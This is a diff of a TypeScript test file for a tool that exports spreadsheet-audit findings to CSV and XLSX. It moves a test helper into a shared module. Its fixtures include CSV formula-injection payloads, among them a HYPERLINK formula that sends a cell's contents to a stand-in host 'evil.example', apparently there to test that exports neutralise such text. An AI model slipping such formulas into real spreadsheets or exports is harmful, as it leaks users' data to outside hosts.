@@ -2,14 +2,9 @@
 // CSV, with texts that try to become formulas.
 import * as ExcelJS from "exceljs";
 import type { Finding } from "../../src/core/findings/finding";
+import { finding } from "../support/finding";
 import { exportFileName, reportCsv, reportRows, reportXlsx } from "../../src/presenters";
 
-function finding(p: Partial<Finding>): Finding {
-  return {
-    rule: "SAKIP-TOTAL-001", severity: "error", sheet: "PK Kepala", cell: "C29", related: [], message: "JUMLAH tidak sama dengan rinciannya.",
-    messageEn: "The total does not equal its items.", expected: null, actual: null, difference: null, suggestion: null, suggestionEn: null, fingerprint: "fp", ...p,
-  };
-}
 
 const hostile = [
   finding({ cell: "B4", message: '=HYPERLINK("http://evil.example/?leak="&A2;"klik")', expected: "Rp 3.195.000.000", actual: "Rp 3.200.000.000", difference: -5_000_000, suggestion: "@SUM(A1)" }),
